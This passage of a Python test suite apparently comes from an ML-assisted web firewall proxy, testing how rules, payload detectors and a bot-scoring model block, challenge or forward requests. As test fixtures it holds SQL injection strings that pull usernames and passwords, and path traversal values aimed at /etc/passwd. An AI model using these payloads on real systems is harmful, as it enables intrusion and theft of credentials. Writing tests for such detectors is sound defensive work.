    # a beacon whose filter a search engine would read (match all): syntax, but of no injection a detector knows
    beacon = "/collect?v=2&tid=G-XXXX&orderby=price-desc&filter=*:*"
    detected = build(cfg_of(challenge={"keys": [KEY]}, payload={"enabled": True}), UnfamiliarScorer)
    v = await decided(detected, SQLI)
    assert (v.action, v.source) == (Action.BLOCK, Source.DETECTOR) and "unfamiliar" not in v.reason  # a detector's block stands
    v = await decided(detected, beacon)
    assert (v.action, v.source) == (Action.CHALLENGE, Source.MODEL) and "unfamiliar to the model" in v.reason
    # without the detectors, an injection signature in the fallback rules is the witness
    ruled = build(cfg_of(rules=SHIPPED_WITH_FALLBACK, challenge={"keys": [KEY]}), UnfamiliarScorer)
    v = await decided(ruled, SQLI)
    assert v.action is Action.BLOCK and v.rule == "block-sql-injection" and "the model alone abstained" in v.reason
    assert (await decided(ruled, beacon)).action is Action.CHALLENGE
    # familiar or not, the beacon's values hold no syntax an injection needs: the model alone challenges it
    v = await decided(build(cfg_of(challenge={"keys": [KEY]}, policy={"abstain_unfamiliar": False}), UnfamiliarScorer), beacon)
    assert v.action is Action.CHALLENGE and "no value holds the syntax" in v.reason
    blocking = build(cfg_of(challenge={"keys": [KEY]}, policy={"abstain_unfamiliar": False, "block_needs_syntax": False}), UnfamiliarScorer)
    assert (await decided(blocking, beacon)).action is Action.BLOCK
    # and without the filter nothing in it could be an attack: P(attack) is not counted, the look alone forwards it
    v = await decided(detected, beacon.removesuffix("&filter=*:*"))
    assert v.action is Action.FORWARD and "not counted: no attack syntax in any value" in v.reason, v.reason


# an HTTP library calling a public JSON API without credentials: no Mozilla/ user agent, no pass, nothing to solve a challenge with
LIBRARY = [("Host", "shop.example"), ("User-Agent", "axios/1.7.2"), ("Accept", "application/json, text/plain, */*"),
           ("Accept-Encoding", "gzip, compress, deflate, br")]
FIREFOX = [("Host", "shop.example"), ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"),
           ("Accept", "application/json, text/plain, */*"), ("Accept-Language", "en-GB,en;q=0.5")]
API_SQLI = "/api/v1/items?page=2&q=1%27%20UNION%20SELECT%20username,password%20FROM%20users--"


async def _decided(p: Pipeline, f: Features) -> Verdict:
    out = p.decide(f)
    return out if isinstance(out, Verdict) else await out


@pytest.mark.parametrize("stage", [FakeScorer, CachedScorer])
async def test_a_program_the_site_answered_pages_where_it_asked_for_data_has_its_look_counted(stage: type[FakeScorer]) -> None:
    cfg = cfg_of(rules=SHIPPED_WITH_FALLBACK, challenge={"keys": [KEY]}, payload={"enabled": True})
    p = build(cfg, partial(stage, bad=0.93, attack=0.02))
    claims = make_features(target="/products?page=2", headers=[*LIBRARY[:2], ("Accept", "application/json")])
    v = await _decided(p, claims)
    assert v.action is Action.FORWARD and v.look_ignored and v.rule == "score-api-clients-on-payload", v.reason
    assert p.state is not None
    p.state.history.paged(p.state.key(claims))  # what the proxy records when the site answers it text/html
    v = await _decided(p, claims)
    assert v.action is Action.CHALLENGE and not v.look_ignored and v.rule == "score-api-clients-on-payload", v.reason
    assert "its look counts under rule score-api-clients-on-payload: the site answered it pages" in v.reason
    # another program at another address keeps the rule's answer
    v = await _decided(p, dataclasses.replace(claims, client_ip="203.0.113.99", client_key=""))
    assert v.action is Action.FORWARD and v.look_ignored


@pytest.mark.parametrize("stage", [FakeScorer, CachedScorer])
async def test_an_api_client_the_model_calls_a_bot_is_judged_on_its_payload(stage: type[FakeScorer]) -> None:
    cfg = cfg_of(rules=SHIPPED_WITH_FALLBACK, challenge={"keys": [KEY]}, payload={"enabled": True})
    p = build(cfg, partial(stage, bad=0.93, attack=0.02))  # the client head: bad_bot
    v = await _decided(p, make_features(target="/api/v1/items?page=2", headers=LIBRARY))
    assert v.action is Action.FORWARD and v.rule == "score-api-clients-on-payload", v.reason
    assert "bot-likeness ignored by rule score-api-clients-on-payload (P(bad_bot)=0.93 not counted)" in v.reason
    # the same client with a SQL injection in a query value: the payload detectors block it, naming where
    v = await _decided(p, make_features(target=API_SQLI, headers=LIBRARY))
    assert v.action is Action.BLOCK and v.source is Source.DETECTOR and v.payload[0].location == "query:q", v.reason
    # a browser's user agent on the same path is scored as everywhere: its look counts
    v = await _decided(p, make_features(target="/api/v1/items?page=2", headers=FIREFOX))
    assert v.action is Action.CHALLENGE and v.rule == "score-everything-else" and "bot-likeness" not in v.reason


async def test_a_command_line_download_the_model_calls_a_bot_is_judged_on_its_payload() -> None:
    cfg = cfg_of(rules=SHIPPED_WITH_FALLBACK, challenge={"keys": [KEY]}, payload={"enabled": True})
    p = build(cfg, partial(FakeScorer, bad=0.97, attack=0.01))
    curl = [("Host", "forge.example"), ("User-Agent", "curl/8.5.0"), ("Accept", "*/*")]
    release = "/org/tool/releases/download/v1.2.3/tool-1.2.3-linux-amd64.tar.gz"
    v = await _decided(p, make_features(target=release, headers=curl))
    assert v.action is Action.FORWARD and v.rule == "score-downloads-on-payload", v.reason
    assert "P(bad_bot)=0.97 not counted" in v.reason
    # what it asks for is judged as anywhere: a traversal in its query is blocked
    v = await _decided(p, make_features(target=release + "?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd", headers=curl))
    assert v.action is Action.BLOCK and v.source is Source.DETECTOR, v.reason
    # a page fetched by the same client is scored with its look
    v = await _decided(p, make_features(target="/org/tool", headers=curl))
    assert v.action is Action.CHALLENGE and v.rule == "score-everything-else", v.reason


async def test_an_api_client_is_still_blocked_when_the_model_and_a_signature_agree() -> None:
    # without the detectors in front: the model leaning to attack and the injection signature are the two witnesses
    p = build(cfg_of(rules=SHIPPED_WITH_FALLBACK, challenge={"keys": [KEY]}), partial(FakeScorer, bad=0.4, attack=0.5))
    v = await _decided(p, make_features(target=API_SQLI, headers=LIBRARY))
    assert v.action is Action.BLOCK and v.rule == "block-sql-injection", v.reason
    # P(attack) alone at challenge_risk with nothing agreeing: challenged, bot-likeness or not
    v = await _decided(p, make_features(target="/api/v1/items?page=2&sort=name%27)", headers=LIBRARY))
    assert v.action is Action.CHALLENGE and v.rule == "score-api-clients-on-payload" and v.reason.startswith("default policy: P(attack)=0.50")
    # ... unless no attack syntax in any value: then nothing counts
    v = await _decided(p, make_features(target="/api/v1/items?page=2", headers=LIBRARY))
    assert v.action is Action.FORWARD and v.reason.startswith("default policy: risk=0.00 < 0.5; P(attack)=0.50 not counted"), v.reason


async def test_an_api_client_that_floods_or_collects_errors_is_stopped_by_the_limits_before_it() -> None:
    cfg = cfg_of(rules=SHIPPED_WITH_FALLBACK, challenge={"keys": [KEY]}, payload={"enabled": True})
    p = build(cfg, partial(FakeScorer, bad=0.93, attack=0.02))
    assert p.state is not None
    p.state.limiter.clock = lambda: 1000.0  # the whole flood inside one instant: no token refills
    f = make_features(target="/api/v1/items?page=2", headers=LIBRARY)
    outcomes = [await _decided(p, f) for _ in range(121)]
    assert all(v.action is Action.FORWARD and v.rule == "score-api-clients-on-payload" for v in outcomes[:120])
    assert outcomes[120].action is Action.BLOCK and outcomes[120].rule == "rate-limit-per-client" and outcomes[120].status == 429
    # another library client whose answers are mostly 4xx: the error-heavy rule challenges it before the model is asked
    walker = make_features(target="/api/v1/items/404", headers=[*LIBRARY[:2], ("Accept", "application/json")], client_ip="198.51.100.9")
    key = p.state.key(walker)
    for i in range(20):
        p.state.record(key, f"/api/v1/items/{i}", 404)
    v = await _decided(p, walker)
    assert v.action is Action.CHALLENGE and v.rule == "challenge-error-heavy-clients", v.reason


async def test_a_rule_that_challenges_shields_no_injection_from_the_payload_detectors() -> None:
    cfg = cfg_of(rules={"files": [str(ROOT / "rules" / "default.yaml")]}, challenge={"keys": [KEY]}, payload={"enabled": True})
    p = build(cfg, partial(FakeScorer, bad=0.1, attack=0.1))
    claude = [("Host", "shop.example"), ("User-Agent", "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; "
                                                       "+claudebot@anthropic.com)"), ("Accept", "*/*")]
    v = await _decided(p, make_features(target="/products?page=2", headers=claude))
    assert v.action is Action.CHALLENGE and v.rule == "ai-training-crawlers", v.reason  # the crawler's name: challenged
    v = await _decided(p, make_features(target=API_SQLI, headers=claude))
    assert v.action is Action.BLOCK and v.source is Source.DETECTOR and v.payload[0].location == "query:q", v.reason


class GatedScorer(FakeScorer):
    """Sure of an attack on a quote in the query; in the challenge band, short of a block, on anything else."""

    async def decide(self, features: Features, request: ScoreRequest) -> Verdict:
        attack = 0.99 if "%27" in features.query else 0.7
        probs = {"payload": {"benign": 1 - attack, "attack": attack}, "client": {"human": 0.9, "good_bot": 0.0, "bad_bot": 0.1},
                 "attack_kind": {"sqli": 1.0}}
        return self.policy.verdict(features, probs, request)


async def test_a_client_that_earned_a_block_is_blocked_where_p_attack_was_not_counted(tmp_path: Path) -> None:
    rules = {"files": [rules_file(tmp_path, "rules:\n  - name: everything\n    action: score\n")]}
    p = build(cfg_of(rules=rules, challenge={"keys": [KEY]}), GatedScorer)
    plain = browser_number(0, target="/search?q=red+shoes")
    first = await decided(p, plain)
    assert first.action is Action.FORWARD and "not counted: no attack syntax in any value" in first.reason, first.reason
    injected = await decided(p, browser_number(0, target="/search?q=1%27+or+%271%27%3D%271"))
    assert injected.action is Action.BLOCK and injected.source is Source.MODEL, injected.reason
    again = await decided(p, plain)  # the same client, the same request: its attack evidence earns the block
    assert again.action is Action.BLOCK and again.source is Source.CLIENT and "attack evidence" in again.reason, again.reason
    assert (await decided(p, browser_number(1, ip="198.51.100.7", target="/search?q=red+shoes"))).action is Action.FORWARD  # anyone else


async def test_a_shipped_rule_that_allows_on_a_claim_shields_no_injection(tmp_path: Path) -> None:
    cfg = cfg_of(rules=SHIPPED_WITH_FALLBACK, challenge={"keys": [KEY]}, payload={"enabled": True})
    p = build(cfg, partial(FakeScorer, bad=0.1, attack=0.1))
    bearer = [*LIBRARY, ("Authorization", "Bearer 4f1c2a9be07d")]
    v = await _decided(p, make_features(target="/api/v1/items?page=2", headers=bearer))
    assert v.action is Action.FORWARD and v.rule == "allow-api-clients-with-credentials", v.reason
    # a credentials header is a claim anyone can add: the same call with an injection is blocked by the detectors
    v = await _decided(p, make_features(target=API_SQLI, headers=bearer))
    assert v.action is Action.BLOCK and v.source is Source.DETECTOR and v.payload[0].location == "query:q", v.reason
    body = b'{"name": "x", "filter": "1\' UNION SELECT password FROM users--"}'
    v = await _decided(p, make_features(method="POST", target="/api/v1/items", body=body,
                                        headers=[*bearer, ("Content-Type", "application/json"), ("Content-Length", str(len(body)))]))
    assert v.action is Action.BLOCK and v.source is Source.DETECTOR and v.payload[0].location.startswith("json"), v.reason
    # a health check's path is no shield either; its plain probe is still let through
    assert (await _decided(p, make_features(target="/healthz", headers=LIBRARY))).rule == "allow-health-checks"
    v = await _decided(p, make_features(target="/healthz?x=..%2F..%2F..%2F..%2Fetc%2Fpasswd", headers=LIBRARY))
    assert v.action is Action.BLOCK and v.source is Source.DETECTOR, v.reason
    # git's push carries the repository's own files, in a body the detectors do not read by its type ...
    pack = b"0094" + b"0" * 40 + b" " + b"1" * 40 + b" refs/heads/main report-status side-band-64k\n0000PACK 1' UNION SELECT password FROM users--"
    git = [("Host", "forge.example"), ("User-Agent", "git/2.45.2"), ("Content-Type", "application/x-git-receive-pack-request"),
           ("Content-Length", str(len(pack)))]
    v = await _decided(p, make_features(method="POST", target="/team/app.git/git-receive-pack", body=pack, headers=git))
    assert v.action is Action.FORWARD and v.rule == "allow-git-clients", v.reason
    # ... as they would read a form's
    v = await _decided(p, make_features(method="POST", target="/team/app.git/git-receive-pack", body=b"x=" + pack[-38:],
                                        headers=[*git[:2], ("Content-Type", "application/x-www-form-urlencoded")]))
    assert v.action is Action.BLOCK and v.source is Source.DETECTOR, v.reason
    # a verified crawler fetches what others link to: an injection planted in a link is blocked, the crawler is not
    googlebot = [("Host", "shop.example"), ("User-Agent", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
                 ("Accept", "*/*")]
    v = await _decided(p, make_features(target="/products?page=2", headers=googlebot, client_ip="66.249.66.9"))
    assert v.action is Action.FORWARD and v.rule == "allow-verified-googlebot", v.reason
    v = await _decided(p, make_features(target="/products?q=1%27%20UNION%20SELECT%20password%20FROM%20users--", headers=googlebot,
                                        client_ip="66.249.66.9"))
    assert v.action is Action.BLOCK and v.source is Source.DETECTOR, v.reason
    # what git's requests name is read: a query on a git path, from git or from anyone
    for ua in ("git/2.45.2", "curl/8.5.0"):
        for target in ("/team/app.git/git-receive-pack?x=%27%20UNION%20SELECT%20password%20FROM%20users--",
                       "/team/app.git/info/refs?service=git-upload-pack&q=1%27%20UNION%20SELECT%20password%20FROM%20users--"):
            v = await _decided(p, make_features(method="POST" if "pack?" in target else "GET", target=target, body=pack if "pack?" in target else b"",
                                                headers=[git[0], ("User-Agent", ua), *(git[2:] if "pack?" in target else [])]))
            assert v.action is Action.BLOCK and v.source is Source.DETECTOR, (ua, target, v.reason)
    v = await _decided(p, make_features(target="/team/app.git/info/refs?service=git-upload-pack", headers=[git[0], ("User-Agent", "git/2.45.2")]))
    assert v.action is Action.FORWARD and v.rule == "allow-git-clients", v.reason


async def test_an_operators_allow_wins_and_inspect_true_reads_what_it_lets_through(tmp_path: Path) -> None:
    rules = rules_file(tmp_path, """rules:
  - name: office
    ip: 192.0.2.0/24
    action: allow
  - name: partner-app
    path: /partner/**
    action: route
    backend: api
    inspect: true
  - name: staff-tools
    path: /tools/**
    action: route
    backend: app
  - name: everyone
    action: allow
    inspect: true
""")
    p = build(cfg_of(rules={"files": [rules]}, payload={"enabled": True}), None)
    for target in (API_SQLI, "/tools" + API_SQLI):  # the office's address, a stopping route: the rule's forward wins
        v = await _decided(p, make_features(target=target, client_ip="192.0.2.7" if target == API_SQLI else "198.51.100.7"))
        assert v.action is Action.FORWARD and v.rule in ("office", "staff-tools"), v.reason
    for target in (API_SQLI, "/partner" + API_SQLI):
        v = await _decided(p, make_features(target=target, client_ip="198.51.100.7"))
        assert v.action is Action.BLOCK and v.source is Source.DETECTOR, v.reason
    v = await _decided(p, make_features(target="/partner/x?q=1", client_ip="198.51.100.7"))
    assert v.action is Action.FORWARD and v.rule == "partner-app" and v.backend == "api", v.reason


@pytest.mark.parametrize("text,problem", [
    ("  - name: a\n    action: block\n    inspect: true\n", "inspect: only applies to action allow or route"),
    ("  - name: a\n    action: allow\n    inspect: sometimes\n", "inspect: expected true or false, got 'sometimes'"),
    # known by its name: an unnamed rule's #1 would be every file's first unnamed rule
    ("  - path: /feeds/**\n    action: allow\n    inspect: true\n", "inspect: needs the rule to have a name"),
    ("  - name: a\n    action: route\n    backend: api\n    continue: true\n    inspect: true\n",
     "inspect: a route that continues lets nothing through itself"),
])
def test_a_bad_inspect_key_is_reported(tmp_path: Path, text: str, problem: str) -> None:
    with pytest.raises(ConfigError) as err:
        build(cfg_of(rules={"files": [rules_file(tmp_path, "rules:\n" + text)]}))
    assert any(problem in p for p in err.value.problems), err.value.problems


async def test_rules_inspect_turns_a_shipped_rules_inspection_off_or_an_operators_on(tmp_path: Path) -> None:
    own = rules_file(tmp_path, "rules:\n  - name: office\n    ip: 192.0.2.0/24\n    action: allow\n")
    rules = {"files": [own, str(ROOT / "rules" / "default.yaml")], "fallback_files": SHIPPED_WITH_FALLBACK["fallback_files"],
             "inspect": {"allow-api-clients-with-credentials": False, "office": True}}
    p = build(cfg_of(rules=rules, challenge={"keys": [KEY]}, payload={"enabled": True}), partial(FakeScorer, bad=0.1, attack=0.1))
    bearer = [*LIBRARY, ("Authorization", "Bearer 4f1c2a9be07d")]
    v = await _decided(p, make_features(target=API_SQLI, headers=bearer))  # its callers trusted with any payload
    assert v.action is Action.FORWARD and v.rule == "allow-api-clients-with-credentials", v.reason
    v = await _decided(p, make_features(target=API_SQLI, client_ip="192.0.2.7"))
    assert v.action is Action.BLOCK and v.source is Source.DETECTOR, v.reason


@pytest.mark.parametrize("inspect,problem", [
    ({"no-such-rule": True}, "rules.inspect: unknown rule 'no-such-rule'"),
    ({"block-secret-files": True}, "rules.inspect.block-secret-files: only applies to allow and route rules"),
    ({"allow-robots-txt": "yes"}, "rules.inspect"),
])
def test_a_bad_rules_inspect_entry_is_reported(inspect: dict[str, Any], problem: str) -> None:
    with pytest.raises(ConfigError) as err:
        build(cfg_of(rules={"files": [str(ROOT / "rules" / "default.yaml")], "inspect": inspect}))
    assert any(problem in p for p in err.value.problems), err.value.problems


def test_inspect_is_refused_in_fallback_rules_where_an_allow_decides_nothing(tmp_path: Path) -> None:
    with pytest.raises(ConfigError) as err:
        build(cfg_of(rules={"fallback_files": [rules_file(tmp_path, "rules:\n  - name: a\n    action: allow\n    inspect: true\n")]}))
    assert any("inspect: not in rules.fallback_files" in p for p in err.value.problems), err.value.problems


@pytest.mark.parametrize("payload,keep", [({"enabled": False}, 16384), ({"enabled": True}, 20000)])
def test_the_proxy_reads_a_form_the_challenge_keeps_whole_before_deciding(tmp_path: Path, payload: dict[str, Any], keep: int) -> None:
    rules = rules_file(tmp_path, "rules:\n  - name: gate\n    path: /comments/**\n    action: challenge\n")
    p = build(cfg_of(rules={"files": [rules]}, payload=payload, challenge={"keys": [KEY], "keep_form_bytes": keep}), None)
    assert p.body_prefix_bytes >= keep
    # nothing can challenge: no body is read for a form that is never kept
    assert build(cfg_of(challenge={"keep_form_bytes": keep})).body_prefix_bytes == 0



@pytest.mark.parametrize("mode", [{"shadow": True}, {"rollout_percent": 0}])
async def test_in_shadow_mode_and_rollout_an_inspected_rules_own_verdict_stands(tmp_path: Path, mode: dict[str, Any]) -> None:
    rules = rules_file(tmp_path, "rules:\n  - name: partner\n    path: /partner/**\n    action: route\n    backend: api\n    inspect: true\n"
                                 "  - name: gate\n    path: /api/**\n    action: challenge\n")
    p = build(cfg_of(rules={"files": [rules]}, payload={"enabled": True}, challenge={"keys": [KEY]}, policy=mode), None)
    # the block is logged, not enforced; the request still goes where its rule sends it
    v = await _decided(p, make_features(target="/partner" + API_SQLI, client_ip="198.51.100.7"))
    assert v.action is Action.FORWARD and v.source is Source.SHADOW and v.shadow_action is Action.BLOCK, v.reason
    assert (v.backend, v.rule) == ("api", "partner"), v.reason
    # a challenge is not lifted by adding attack syntax to the request
    for target in ("/api/v1/items?page=2", API_SQLI):
        v = await _decided(p, make_features(target=target, client_ip="198.51.100.7"))
        assert v.action is Action.CHALLENGE and v.rule == "gate", (target, v.reason)


CHALLENGING = ("rules:\n  - name: example-bot\n    user_agent: 'ExampleBot'\n    action: challenge\n    difficulty: 4\n"
               "  - name: everything\n    action: score\n")
EXAMPLE_BOT = [("Host", "shop.example"), ("User-Agent", "Mozilla/5.0 (compatible; ExampleBot/1.0; +https://bot.example/)"),
               ("Accept", "*/*")]


async def test_a_rules_challenge_shields_no_payload_from_the_model(tmp_path: Path) -> None:
    """Who asks is no shield for what is asked: a request a rule challenges that carries a payload is scored, and the
    model's evidence blocks it (rules.score_challenged); short of a block, and for a bare path, the rule's challenge stands."""
    cfg = cfg_of(rules={"files": [rules_file(tmp_path, CHALLENGING)]}, challenge={"keys": [KEY]},
                 policy={"difficulty_min": 4, "difficulty_max": 4})
    p = build(cfg, GatedScorer)
    scorer = p.scorer
    assert isinstance(scorer, GatedScorer)
    before = pipeline_mod.RULE_CHALLENGES_BLOCKED.get("example-bot")
    injected = await decided(p, make_features(target="/search?q=1%27+or+%271%27%3D%271", headers=EXAMPLE_BOT))
    assert injected.action is Action.BLOCK and injected.source is Source.MODEL and injected.rule == "example-bot", injected.reason
    assert "rule example-bot challenged it, and its payload was scored" in injected.reason and injected.payload
    assert pipeline_mod.RULE_CHALLENGES_BLOCKED.get("example-bot") == before + 1
    # a payload the model does not find an attack (P(attack) 0.7, no syntax): the rule's own challenge, as before
    plain = await decided(p, make_features(target="/search?q=red+shoes", headers=EXAMPLE_BOT, client_ip="198.51.100.3"))
    assert (plain.action, plain.source, plain.rule, plain.difficulty) == (Action.CHALLENGE, Source.RULE, "example-bot", 4), plain.reason
    # ... carrying what the model said of the payload, for the decision log and the console
    assert plain.probabilities is not None and plain.explanation[-1].startswith("the model, short of a block: "), plain.explanation
    # nothing but a path: the model is not asked, and the rule decides at once
    asked = len(scorer.seen)
    bare = p.decide(make_features(target="/guides/lamps", headers=EXAMPLE_BOT, client_ip="198.51.100.4"))
    assert isinstance(bare, Verdict) and bare.action is Action.CHALLENGE and bare.rule == "example-bot"
    assert len(scorer.seen) == asked
    # a pass holder the rule would let through is let through where the payload is no attack, and blocked where it is
    f = make_features(target="/guides/lamps", headers=EXAMPLE_BOT, client_ip="198.51.100.5")
    cookie = ("Cookie", _pass_cookie(p, f))
    held = await decided(p, make_features(target="/search?q=red+shoes", headers=[*EXAMPLE_BOT, cookie], client_ip="198.51.100.5"))
    assert held.action is Action.FORWARD and held.rule == "example-bot", held.reason
    attack = await decided(p, make_features(target="/search?q=1%27+or+%271%27%3D%271", headers=[*EXAMPLE_BOT, cookie],
                                            client_ip="198.51.100.5"))
    assert attack.action is Action.BLOCK, attack.reason
    # turned off, the rule's challenge is final
    off = build(cfg_of(rules={"files": [rules_file(tmp_path, CHALLENGING)], "score_challenged": False}, challenge={"keys": [KEY]}),
                GatedScorer)
    final = off.decide(make_features(target="/search?q=1%27+or+%271%27%3D%271", headers=EXAMPLE_BOT, client_ip="198.51.100.6"))
    assert isinstance(final, Verdict) and final.action is Action.CHALLENGE and final.rule == "example-bot"


async def test_a_rules_challenge_of_a_payload_is_blocked_by_a_fallback_rule_when_the_model_is_down(tmp_path: Path) -> None:
    files = [rules_file(tmp_path, CHALLENGING)]
    cfg = cfg_of(rules={"files": files, "fallback_files": [str(ROOT / "rules" / "injections.yaml")]}, challenge={"keys": [KEY]})
    for stage in (FailingScorer, FailingAtOnceScorer):
        down = build(cfg, stage)
        v = await decided(down, make_features(target=SQLI, headers=EXAMPLE_BOT))
        assert v.action is Action.BLOCK and v.rule == "block-sql-injection" and "model unavailable" in v.reason, v.reason
        clean = await decided(down, make_features(target="/search?q=walnut+desk", headers=EXAMPLE_BOT, client_ip="198.51.100.9"))
        assert clean.action is Action.CHALLENGE and clean.rule == "example-bot", clean.reason


class AtOnceGatedScorer(GatedScorer):
    """A GatedScorer that answers at once (``decide_cached``: a model run on the event loop, or a cache hit)."""

    def decide_cached(self, features: Features, request: ScoreRequest, client: object) -> Verdict:
        attack = 0.99 if "%27" in features.query else 0.7
        probs = {"payload": {"benign": 1 - attack, "attack": attack}, "client": {"human": 0.9, "good_bot": 0.0, "bad_bot": 0.1},
                 "attack_kind": {"sqli": 1.0}}
        return self.policy.verdict(features, probs, request)


def test_a_rules_challenge_scored_at_once_is_decided_at_once(tmp_path: Path) -> None:
    cfg = cfg_of(rules={"files": [rules_file(tmp_path, CHALLENGING)]}, challenge={"keys": [KEY]})
    p = build(cfg, AtOnceGatedScorer)
    injected = p.decide(make_features(target="/search?q=1%27+or+%271%27%3D%271", headers=EXAMPLE_BOT))
    assert isinstance(injected, Verdict) and injected.action is Action.BLOCK and injected.rule == "example-bot", injected
    plain = p.decide(make_features(target="/search?q=red+shoes", headers=EXAMPLE_BOT, client_ip="198.51.100.3"))
    assert isinstance(plain, Verdict) and (plain.action, plain.source, plain.rule) == (Action.CHALLENGE, Source.RULE, "example-bot")
